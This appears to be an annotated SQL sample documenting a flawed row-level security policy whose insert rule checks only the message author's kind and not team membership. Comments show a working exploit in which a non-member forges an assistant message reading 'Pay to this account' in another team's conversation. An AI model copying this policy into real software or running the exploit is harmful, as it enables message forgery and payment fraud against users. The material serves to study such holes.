-- Workers' answers may be written by anyone: the insert rule looks at the author's kind and not at the team.
-- about: messages, messages_answers
-- as: hf_assistants_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: INSERT INTO app.messages (team_id, conversation_id, author, content)
-- exploit: VALUES ('22222222-2222-2222-2222-222222222222', '22222222-0000-0000-0000-000000000003',
-- exploit: 'assistant', 'Pay to this account');
-- shows: INSERT 0 1
-- The worker has no membership.
CREATE POLICY messages_answers ON app.messages FOR INSERT WITH CHECK (author <> 'user');
